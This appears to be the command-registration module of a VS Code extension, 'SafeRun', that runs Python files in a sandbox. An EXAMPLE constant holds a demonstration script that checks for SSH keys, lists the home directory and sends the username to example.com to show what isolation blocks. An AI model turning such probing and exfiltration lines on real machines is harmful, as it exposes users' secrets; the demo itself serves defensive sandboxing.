// What people can do. The server does the work; here is only what needs the editor.

import { execFile, spawn } from 'node:child_process';
import * as vscode from 'vscode';
import type { LanguageClient } from 'vscode-languageclient/node';
import { openItem, type History } from './history';
import type { HistoryItem } from './protocol';
import { clientPath, environment } from './programs';
import type { RunView } from './runs';
import { warm, type StatusBar } from './status';
import { suppress } from './suppress';

export const EXAMPLE = `import getpass
import os
import urllib.request

# "Just prints a greeting", said the model.
print("Hello from the sandbox,", getpass.getuser())

# What would it have found on your machine?
print("SSH keys:", os.path.exists(os.path.expanduser("~/.ssh/id_rsa")))
print("Home:", os.listdir(os.path.expanduser("~")))

# And could it send it away?
try:
    urllib.request.urlopen("http://example.com/?user=" + getpass.getuser(), timeout=2)
except OSError as error:
    print("No network:", error)
`;

interface Parts {
  context: vscode.ExtensionContext;
  client: () => LanguageClient | undefined;
  restart: () => Promise<void>;
  history: History;
  view: RunView;
  status: StatusBar;
}

export function register(parts: Parts): vscode.Disposable[] {
  const { context, client } = parts;

  function running(): LanguageClient | undefined {
    const server = client();
    if (server?.isRunning()) {
      return server;
    }
    void vscode.window.showErrorMessage('SafeRun: the language server does not run. See “SafeRun: Check This Machine”.');
    return undefined;
  }

  async function execute(command: string, argument: unknown): Promise<unknown> {
    try {
      return await running()?.sendRequest('workspace/executeCommand', { command, arguments: argument === undefined ? [] : [argument] });
    } catch (error) {
      void vscode.window.showErrorMessage(`SafeRun: ${error instanceof Error ? error.message : String(error)}`);
      return undefined;
    }
  }

  function document(): vscode.TextDocument | undefined {
    const editor = vscode.window.activeTextEditor;
    if (!editor) {
      void vscode.window.showInformationMessage('SafeRun: open a Python file first.');
    }
    return editor?.document;
  }

  function wish(withOverride: boolean): object | undefined {
    const open = document();
    const editor = vscode.window.activeTextEditor;
    if (!open || !editor) {
      return undefined;
    }
    const at = editor.selection.active;
    const range = open.languageId === 'markdown' ? { start: at, end: at } : undefined;
    return { uri: open.uri.toString(), range, override: withOverride };
  }

  // Its output goes to the run view. Arguments are never joined by a shell.
  async function program(title: string, args: string[]): Promise<void> {
    const show = parts.view.task(`saferunctl ${args.join(' ')}`);
    const code = await vscode.window.withProgress(
      { location: vscode.ProgressLocation.Notification, title: `SafeRun: ${title}`, cancellable: true },
      (_, cancelled) =>
        new Promise<number | string>((resolve) => {
          const child = spawn(clientPath(context), args, { env: { ...environment(), NO_COLOR: '1' }, stdio: ['ignore', 'pipe', 'pipe'] });
          for (const stream of [child.stdout, child.stderr]) {
            stream.setEncoding('utf8').on('data', show.output);
          }
          child.on('error', (error) => resolve(error.message));
          child.on('close', (status) => resolve(status ?? 'ended by a signal'));
          cancelled.onCancellationRequested(() => child.kill('SIGINT'));
        }),
    );
    show.end(code === 0, code === 0 ? 'All is well.' : `Not all is well (${code}): do what is said, then try again.`);
    parts.status.soon();
  }

  const on = (name: string, act: (...args: never[]) => unknown) => vscode.commands.registerCommand(name, act);
  return [
    on('saferun.runFile', async () => {
      const asked = wish(false);
      return asked && execute('saferun.run', asked);
    }),
    on('saferun.runFileWithOverride', async () => {
      const asked = wish(true);
      return asked && execute('saferun.runWithOverride', asked);
    }),
    on('saferun.runSelection', async () => {
      const open = document();
      const selection = vscode.window.activeTextEditor?.selection;
      return open && execute('saferun.run', { uri: open.uri.toString(), range: selection });
    }),
    on('saferun.runCell', async (cell?: vscode.NotebookCell) => {
      const editor = vscode.window.activeNotebookEditor;
      const chosen = cell ?? (editor && editor.notebook.cellAt(editor.selection.start));
      return chosen && execute('saferun.run', { uri: chosen.document.uri.toString() });
    }),
    on('saferun.cancelRuns', () => execute('saferun.cancel', undefined)),
    on('saferun.clearFileResults', async () => {
      const open = document();
      return open && execute('saferun.clearResults', open.uri.toString());
    }),
    on('saferun.suppress', () => {
      const server = running();
      return server && suppress(server);
    }),
    on('saferun.showRunView', () => parts.view.reveal()),
    on('saferun.startServices', async () => {
      if (await execute('saferun.startDaemon', undefined)) {
        void vscode.window.showInformationMessage('SafeRun: the daemon runs.');
        parts.status.soon();
      }
    }),
    on('saferun.showStatus', async () => {
      const status = await parts.status.ask();
      const items: Array<vscode.QuickPickItem & { run: string }> = [
        { label: '$(play) Run in Sandbox', run: 'saferun.runFile' },
        { label: '$(history) Show Runs', run: 'saferun.history.focus' },
        { label: '$(checklist) Check This Machine', run: 'saferun.doctor' },
      ];
      if (status && !status.daemon) {
        items.unshift({ label: '$(rocket) Start the Daemon', run: 'saferun.startServices' });
      }
      const daemon = status?.daemon
        ? `The daemon runs, policy ${status.daemon.policy?.name ?? 'default'}, ${warm(status)} containers warm.`
        : 'No daemon runs; the first run starts it.';
      const file = status?.file ? ` This file: ${status.file.risk}, ${status.file.findings} findings.` : '';
      const chosen = await vscode.window.showQuickPick(items, { title: 'SafeRun', placeHolder: daemon + file });
      if (chosen) {
        await vscode.commands.executeCommand(chosen.run);
      }
    }),
    on('saferun.doctor', () => program('checking this machine', ['doctor'])),
    on('saferun.buildImage', () => program('building the sandbox image', ['image', 'build'])),
    on('saferun.tryExample', async () => {
      const open = await vscode.workspace.openTextDocument({ language: 'python', content: EXAMPLE });
      await vscode.window.showTextDocument(open);
    }),
    on('saferun.openHistoryItem', (item: HistoryItem) => openItem(client(), item)),
    on('saferun.clearHistory', () => parts.history.clear()),
    on('saferun.restartServer', () => parts.restart()),
  ];
}

// Whether the programs are there; said once, with what to do.
export function checkPrograms(context: vscode.ExtensionContext): void {
  execFile(clientPath(context), ['--version'], { timeout: 10_000 }, (error) => {
    if (error) {
      void vscode.window.showWarningMessage('SafeRun: saferunctl was not found. Install SafeRun, or set saferun.server.path to its saferun-lsp.');
    }
  });
}
